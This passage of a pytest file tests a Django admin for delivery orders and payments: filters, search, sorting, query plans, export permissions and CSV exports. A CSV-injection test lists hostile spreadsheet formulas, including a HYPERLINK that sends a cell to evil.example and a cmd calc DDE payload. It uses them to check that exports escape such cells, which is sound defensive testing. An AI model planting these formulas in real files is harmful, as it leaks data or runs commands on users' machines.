    # Noon three local days ago, and its day read from it: one reading of the clock, so a
    # midnight (Douala) between two readings cannot put the payment and the filter on two days.
    noon = timezone.localtime().replace(hour=12, minute=0, second=0, microsecond=0) - timedelta(days=3)
    Payment.objects.filter(pk=payment.pk).update(created_at=noon)
    recent = payment_needing_refund(key="cash-recent")
    login(client, FINANCE)
    day = noon.date()
    listed = (
        client.get(PAYMENTS, {"created_at_from": day.isoformat(), "created_at_to": day.isoformat()})
        .context["cl"]
        .result_list
    )
    assert [p.pk for p in listed] == [payment.pk]
    listed = client.get(PAYMENTS, {"provider__exact": "cash", "status__exact": "succeeded"}).context["cl"]
    assert {p.pk for p in listed.result_list} == {payment.pk, recent.pk}
    assert not client.get(PAYMENTS, {"provider__exact": "mtn_momo"}).context["cl"].result_list


def test_payments_filtered_by_days_come_newest_first_by_time_and_ties_by_id(client):
    # Ordered by time, from orders_payment_created (created_at, id): the id order (the list's
    # default) would put `second` first although `first` was created later on that day.
    first, second, third = (payment_needing_refund(key=f"cash-{n}") for n in range(3))
    noon = timezone.localtime().replace(hour=12, minute=0, second=0, microsecond=0) - timedelta(days=2)
    Payment.objects.filter(pk=first.pk).update(created_at=noon + timedelta(hours=1))
    Payment.objects.filter(pk__in=[second.pk, third.pk]).update(created_at=noon)
    login(client, FINANCE)
    day = noon.date().isoformat()
    for params in ({"created_at_from": day, "created_at_to": day}, {"created_at_from": day}):
        listed = client.get(PAYMENTS, params).context["cl"].result_list
        assert [p.pk for p in listed] == [first.pk, third.pk, second.pk]
    unfiltered = client.get(PAYMENTS).context["cl"].result_list
    assert [p.pk for p in unfiltered] == [third.pk, second.pk, first.pk]


def test_the_refunds_pages_make_the_same_few_queries_for_2_or_8_payments(client):
    from tests.core.test_admin_queries import count

    for i in range(2):
        payment_needing_refund(key=f"cash-{i}")
    login(client, FINANCE)
    urls = ["/admin/", PAYMENTS + "?needs_refund__exact=1"]
    few = [count(client, url) for url in urls]
    for i in range(2, 8):
        payment_needing_refund(key=f"cash-{i}")
    assert [count(client, url) for url in urls] == few


def payments_found(client, term: str) -> set:
    return {p.pk for p in client.get(PAYMENTS, {"q": term}).context["cl"].result_list}


def test_payments_are_found_by_a_reference_made_of_digits_or_by_order_number(client):
    owed = payment_needing_refund()
    digits = str(int(owed.order.number.removeprefix("OK-")))
    order = OrderFactory(payment_method=PaymentMethod.MTN_MOMO)
    momo = payment_record(
        order=order,
        provider=PaymentMethod.MTN_MOMO,
        provider_reference="884421",
        amount_xaf=order.total_xaf,
        actor=Actor(role=Actor.STOREFRONT, label="web"),
    )
    orange = payment_record(
        order=OrderFactory(payment_method=PaymentMethod.ORANGE_MONEY),
        provider=PaymentMethod.ORANGE_MONEY,
        provider_reference=digits,
        amount_xaf=order.total_xaf,
        actor=Actor(role=Actor.STOREFRONT, label="web"),
    )
    login(client, FINANCE)

    assert payments_found(client, "884421") == {momo.pk}
    assert payments_found(client, owed.order.number) == {owed.pk}
    # Digits only: the order with that number and the reference made of them.
    assert payments_found(client, digits) == {owed.pk, orange.pk}
    assert payments_found(client, "999999") == set()


def test_payments_are_found_by_a_whole_reference_with_letters_and_not_by_a_part_of_it(client):
    order = OrderFactory(payment_method=PaymentMethod.ORANGE_MONEY)
    orange = payment_record(
        order=order,
        provider=PaymentMethod.ORANGE_MONEY,
        provider_reference="MP240517.1530.C12345",
        amount_xaf=order.total_xaf,
        actor=Actor(role=Actor.STOREFRONT, label="web"),
    )
    login(client, FINANCE)

    assert payments_found(client, "  MP240517.1530.C12345 ") == {orange.pk}
    # A part of a reference would need a substring search, which reads the whole payments table.
    assert payments_found(client, "C12345") == set()
    assert payments_found(client, "MP240517") == set()


@pytest.fixture
def orders_numbered_across_seven_digits():
    """Orders OK-0000042, OK-9999999, OK-10000000, OK-10000001 (the sequence moved on), placed in
    that order; the sequence is put back afterwards (a sequence is not rolled back)."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT last_value FROM orders_order_number_seq")
        (before,) = cursor.fetchone()
        cursor.execute("SELECT setval('orders_order_number_seq', 41)")
        first = OrderFactory()
        cursor.execute("SELECT setval('orders_order_number_seq', 9999998)")
        yield [first, *(OrderFactory() for _ in range(3))]
        cursor.execute("SELECT setval('orders_order_number_seq', %s)", [before])


def sort_by(client, name: str, *, descending: bool) -> str:
    """The list's `o` parameter that sorts by the column `name` (as its header's link has it)."""
    column = client.get("/admin/orders/order/").context["cl"].list_display.index(name)
    return f"-{column}" if descending else str(column)


def number_sort(client, *, descending: bool) -> str:
    """The list's `o` parameter that sorts by the number column."""
    return sort_by(client, "number", descending=descending)


@pytest.mark.parametrize("descending", [False, True])
def test_the_number_column_sorts_past_seven_digits_by_length_then_text(
    client, descending, orders_numbered_across_seven_digits
):
    orders = orders_numbered_across_seven_digits
    assert [o.number for o in orders] == ["OK-0000042", "OK-9999999", "OK-10000000", "OK-10000001"]
    login(client, SUPPORT)
    response = client.get("/admin/orders/order/", {"o": number_sort(client, descending=descending)})
    shown = [o.number for o in response.context["cl"].result_list]
    expected = [o.number for o in orders]  # placing order is number order here
    assert shown == (expected[::-1] if descending else expected)


def twenty_thousand_orders() -> None:
    """Statistics like production's: thousands of orders (ANALYZEd), so that the planner's pick
    is what it would be on a big table. Committed, for transactional tests only: rolled back,
    they would leave their pages and statistics to the tests after (tests.statistics)."""
    order = OrderFactory()
    bulk_analyzed(
        "orders_order",
        """
        INSERT INTO orders_order (id, created_at, updated_at, deleted_by_cascade, number, status,
                                  channel, payment_method, payment_status, subtotal_xaf,
                                  delivery_fee_xaf, total_xaf, address, placed_at, note,
                                  customer_id, vendor_id, zone_id)
        SELECT gen_random_uuid(), now(), now(), false,
               okada_order_number(nextval('orders_order_number_seq')), 'delivered', 'admin',
               'cash', 'paid', 1000, 0, 1000, '', now() - g * interval '1 minute', '',
               customer_id, vendor_id, zone_id
          FROM orders_order, generate_series(1, 20000) g WHERE id = %s
        """,
        [order.pk],
    )


def plan_of(sql: str, params: Any) -> str:
    with connection.cursor() as cursor:
        cursor.execute(sql, params)
        return "\n".join(row[0] for row in cursor.fetchall())


@pytest.mark.django_db(transaction=True)  # twenty_thousand_orders
def test_the_number_column_is_sorted_by_its_index_in_both_directions(client):
    # The index on (length(number), number), no Sort.
    twenty_thousand_orders()
    login(client, SUPPORT)
    for descending in (False, True):
        cl = client.get("/admin/orders/order/", {"o": number_sort(client, descending=descending)}).context[
            "cl"
        ]
        sql, params = cl.queryset[: cl.list_per_page].query.sql_with_params()
        plan = plan_of(f"EXPLAIN {sql}", params)
        assert "orders_order_number_sort" in plan, plan
        assert "Sort" not in plan.replace("orders_order_number_sort", ""), plan


def _with_permissions(user: Any, *names: str) -> Any:
    for name in names:
        app_label, codename = name.split(".")
        user.user_permissions.add(
            Permission.objects.get(content_type__app_label=app_label, codename=codename)
        )
    return user


def test_an_export_is_refused_to_a_user_who_may_export_but_not_read_orders(settings, tmp_path):
    # `orders.export_orders` alone (a custom role): the order list is closed to them, so is its
    # file (customers' names and phones). Refused on the server, nothing recorded or queued.
    settings.OKADA_PRIVATE_DIR = tmp_path
    OrderFactory()
    user = _with_permissions(UserFactory(is_staff=True), "orders.export_orders")
    client = csrf_client(user)
    assert client.get("/admin/orders/order/").status_code == 403
    assert csrf_post(client, "/admin/orders/order/export/", {"query": ""}).status_code == 403
    with pytest.raises(NotAllowed):  # the service asks too, whoever calls it
        exports.export_request(user=user, query="")
    assert not OrderExport.objects.exists()


def test_an_export_is_not_served_once_its_user_may_no_longer_read_orders(client, settings, tmp_path):
    settings.OKADA_PRIVATE_DIR = tmp_path
    OrderFactory()
    user = login(client, FINANCE)
    assert client.post("/admin/orders/order/export/", {"query": ""}).status_code == 302
    [export] = OrderExport.objects.filter(requested_by=user)
    assert exports.export_run(export_id=str(export.pk)).status == OrderExport.Status.DONE
    url = f"/admin/orders/orderexport/{export.pk}/download/"
    assert client.get(url).status_code == 200
    user.groups.clear()  # out of Finance; the export permission kept alone (a custom role)
    _with_permissions(user, "orders.export_orders")
    assert client.get(url).status_code == 403
    assert client.get(f"/admin/orders/orderexport/{export.pk}/change/").status_code == 403


# --- CSV exports in the list's order -------------------------------------------------------------


@pytest.fixture
def exported_rows(client, settings, tmp_path):
    """`exported_rows(query)`: the header and the rows of the CSV that "Export this list to CSV"
    writes for the list at `query`, as the logged-in user (as `exported`, whole rows)."""
    settings.OKADA_PRIVATE_DIR = tmp_path

    def export(query: str) -> tuple[list[str], list[list[str]]]:
        before = set(OrderExport.objects.values_list("pk", flat=True))
        assert client.post("/admin/orders/order/export/", {"query": query}).status_code == 302
        [export] = OrderExport.objects.exclude(pk__in=before)
        assert exports.export_run(export_id=str(export.pk), language="fr").status == "done"
        download = client.get(f"/admin/orders/orderexport/{export.pk}/download/")
        text = b"".join(download.streaming_content).decode("utf-8-sig")
        header, *rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
        return header, rows

    return export


@pytest.fixture
def exported(exported_rows):
    """`exported(query)`: the order numbers of the CSV that "Export this list to CSV" writes for
    the list at `query` (its query string, as the button posts it), as the logged-in user: asked
    through the admin, written by the task's body (`export_run`), read back from the download."""

    def export(query: str) -> list[str]:
        return [row[0] for row in exported_rows(query)[1]]

    return export


def listed(client, query: str) -> list[str]:
    return [o.number for o in client.get(f"/admin/orders/order/?{query}").context["cl"].result_list]


# A customer's name is the storefront's to write (any visitor placing an order): in the CSV a
# spreadsheet opens, a cell that starts with = + - @ (or a tab or carriage return) would be run as
# a formula on the staff member's machine (CSV injection). Such text cells start with ' instead.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_an_export_writes_no_text_a_spreadsheet_would_run_as_a_formula(client, settings, tmp_path, formula):
    settings.OKADA_PRIVATE_DIR = tmp_path
    vendor = VendorFactory(name=formula)
    order = OrderFactory(vendor=vendor, customer=CustomerFactory(name=formula))
    login(client, FINANCE)
    assert (
        client.post("/admin/orders/order/export/", {"query": f"vendor__id__exact={vendor.pk}"}).status_code
        == 302
    )
    [export] = OrderExport.objects.all()
    assert exports.export_run(export_id=str(export.pk), language="fr").status == "done"
    download = client.get(f"/admin/orders/orderexport/{export.pk}/download/")
    text = b"".join(download.streaming_content).decode("utf-8-sig")
    [row] = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
    assert row[0] == order.number
    assert row[3] == row[4] == "'" + formula  # vendor, customer: shown as written, never run
    assert row[5] == order.customer.phone  # a phone (+237...) is a number to a spreadsheet: as is
    assert row[-1] == str(order.total_xaf)


def test_an_export_names_the_customer_as_each_order_shows_it_in_its_column(client, exported_rows):
    # As the list: the name the order shows, whatever the record now says; the record's name for
    # an order placed before orders kept one. The columns stay where outside scripts read them.
    renamed = renamed_after_its_order("Awa Mbarga", "Mbarga Awa Epse Tchoua", phone="+237677000904")
    legacy = OrderFactory(customer=CustomerFactory(name="Paul Eto"))
    Order.objects.filter(pk=legacy.pk).update(customer_name="")
    formula = OrderFactory(customer=CustomerFactory(name="Jean Owona"))
    Order.objects.filter(pk=formula.pk).update(customer_name="=1+1")  # as the storefront gave it
    login(client, FINANCE)

    header, rows = exported_rows("")
    assert len(header) == 14 and header[4] == "client" and header[5] == "téléphone"
    assert {row[0]: row[4] for row in rows} == {
        renamed.number: "Awa Mbarga",
        legacy.number: "Paul Eto",
        formula.number: "'=1+1",  # the order's own name, never run as a formula
    }
    assert {row[0]: row[5] for row in rows}[renamed.number] == "+237677000904"


@pytest.mark.parametrize("descending", [False, True])
def test_an_export_follows_the_lists_sort_by_a_column_then_its_tie_breakers(client, exported, descending):
    # By total, either way; equal totals as the list breaks ties: newest placed first, then by id
    # (descending, Django's tie-breaker): the same rows in the same order as on screen.
    vendor = VendorFactory()

    def order(price: int) -> Order:
        return OrderFactory(
            vendor=vendor, items=[(ProductFactory(vendor=vendor, price_xaf=price, initial_stock=1), 1)]
        )

    cheap, dear, older, newer, twin = order(1000), order(3000), order(2000), order(2000), order(2000)
    now = timezone.now()
    Order.objects.filter(pk=older.pk).update(placed_at=now - timedelta(hours=2))
    Order.objects.filter(pk__in=[newer.pk, twin.pk]).update(placed_at=now - timedelta(hours=1))
    ties = [o.number for o in sorted([newer, twin], key=lambda o: o.pk, reverse=True)] + [older.number]
    login(client, FINANCE)
    query = f"vendor__id__exact={vendor.pk}&o={sort_by(client, 'total', descending=descending)}"

    expected = [cheap.number, *ties, dear.number]
    if descending:  # the column's direction only: ties stay newest first
        expected = [dear.number, *ties, cheap.number]
    assert listed(client, query) == expected
    assert exported(query) == expected


@pytest.mark.parametrize("descending", [False, True])
def test_an_export_sorted_by_number_sorts_by_length_then_text_as_the_list(
    client, exported, descending, orders_numbered_across_seven_digits
):
    orders = orders_numbered_across_seven_digits
    # Placed in number order: make the placing order another one, so that only the number sorts.
    now = timezone.now()
    for minutes, placed in zip((3, 1, 4, 2), orders, strict=True):
        Order.objects.filter(pk=placed.pk).update(placed_at=now - timedelta(minutes=minutes))
    login(client, FINANCE)
    numbers = [o.number for o in orders]
    expected = numbers[::-1] if descending else numbers
    query = f"o={number_sort(client, descending=descending)}"
    assert listed(client, query) == expected
    assert exported(query) == expected


def test_an_export_of_an_unsorted_list_is_newest_placed_first_as_before(client, exported):
    first, second, third = OrderFactory(), OrderFactory(), OrderFactory()
    now = timezone.now()
    for hours, placed in zip((1, 3, 2), (first, second, third), strict=True):
        Order.objects.filter(pk=placed.pk).update(placed_at=now - timedelta(hours=hours))
    login(client, FINANCE)
    expected = [first.number, third.number, second.number]
    assert exported("") == listed(client, "") == expected
    assert exported(f"vendor__id__exact={third.vendor_id}") == [third.number]


@pytest.mark.django_db(transaction=True)  # twenty_thousand_orders
def test_an_exports_sort_is_read_from_the_lists_indexes_not_sorted_whole():
    # The rows come through a server-side cursor (planned for its first rows, as DECLARE is
    # here): by number either way from orders_order_number_sort without a Sort, newest first
    # from orders_order_placed, ties by id sorted within one placing time only (Incremental Sort).
    twenty_thousand_orders()
    user = role_user(FINANCE)

    def plan(query: str) -> str:
        rows = exports._changelist_queryset(OrderExport.objects.create(requested_by=user, query=query))
        sql, params = rows.query.sql_with_params()
        return plan_of(f"EXPLAIN DECLARE export NO SCROLL CURSOR FOR {sql}", params)

    column = orders_admin.OrderAdmin.list_display.index("number")
    for query in (f"o={column}", f"o=-{column}"):
        found = plan(query)
        assert "orders_order_number_sort" in found, found
        assert "Sort" not in found.replace("orders_order_number_sort", ""), found
    found = plan("")
    assert "Index Scan Backward using orders_order_placed" in found, found
    assert "Presorted Key: orders_order.placed_at" in found, found
    assert not re.search(r"(^|->)\s*Sort\s+\(cost", found, re.MULTILINE), found  # no Sort node of the whole


def test_the_order_page_shows_each_payments_amount_received_and_refund_owed(client):
    # A success for less than asked: the order page must not show the payment as simply paid.
    payment = payment_needing_refund(key="cash-short")
    login(client, SUPPORT)
    page = client.get(f"/admin/orders/order/{payment.order_id}/change/").content.decode()
    inline = page[page.index('id="payments-data"') :]
    inline = inline[: inline.index("</table>")]
    assert "column-received" in inline and "Reçu" in inline  # the columns, in French
    assert "column-refund_badge" in inline and "Remboursement" in inline
    assert "refund_owed" in inline and "dû" in inline  # the flag's badge


def test_an_export_is_named_by_its_douala_time_on_its_page(client, admin_user):
    # Its name heads its page and the breadcrumbs: it was the UTC time as stored ("20:30"), an
    # hour behind the "created at" beside it (Africa/Douala).
    import datetime as dt

    export = OrderExport.objects.create(requested_by=admin_user)
    at = dt.datetime(2026, 12, 4, 20, 30, tzinfo=dt.UTC)
    OrderExport.objects.filter(pk=export.pk).update(created_at=at)
    export.refresh_from_db()
    assert str(export).startswith("2026-12-04 21:30 ")
    client.force_login(admin_user)
    page = client.get(f"/admin/orders/orderexport/{export.pk}/change/").content.decode()
    assert "2026-12-04 21:30" in page and "20:30" not in page
